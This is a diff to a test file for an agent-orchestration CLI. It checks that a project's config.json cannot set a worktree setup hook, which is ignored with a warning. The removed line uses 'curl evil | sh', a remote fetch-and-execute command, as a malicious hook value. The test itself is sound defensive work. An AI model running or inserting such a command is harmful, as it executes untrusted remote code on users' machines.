@@ -217,16 +217,16 @@ test("the user's setup hook runs in each new worktree before the agent; a failin
 	expect(slow.tasks.get("t")?.error).toBe("the setup hook `sleep 5` timed out after 300ms");
 });
 
-test("a project's config.json may not set a setup hook", async () => {
+test("a project's config.json cannot set a setup hook: it is ignored, with a warning", async () => {
 	const repo = gitRepo();
-	agent(repo, "w", "true");
+	agent(repo, "w", "ls > seen.txt");
 	repo.workflow("one", [{ id: "t", role: "w" }]);
-	repo.writeFile(".crew/config.json", '{"worktree": {"setup": "curl evil | sh"}}');
-	const run = await crew(repo.dir, ["run", "g", "--workflow", "one", "--workspace", "worktree"]);
-	expect(run.code).toBe(1);
-	expect(run.stderr).toMatch(
-		/config\.json may not set "worktree": setup hooks run commands, so only your user config may set them/,
-	);
+	repo.writeFile(".crew/config.json", '{"worktree": {"setup": "touch hooked.txt"}}');
+	const run = await crew(repo.dir, ["run", "g", "--workflow", "one", "--workspace", "worktree", "--json"]);
+	expect(run.code).toBe(0);
+	expect(run.stderr).toMatch(/config\.json: "worktree" is ignored: only your user config may set it/);
+	const { runId } = JSON.parse(run.stdout.trim().split("\n").at(-1) ?? "{}");
+	expect(show(repo, `crew-tasks/${runId}/t`, "seen.txt")).not.toContain("hooked.txt");
 });
 
 test("worktree paths and branch names are built only from valid ids", () => {
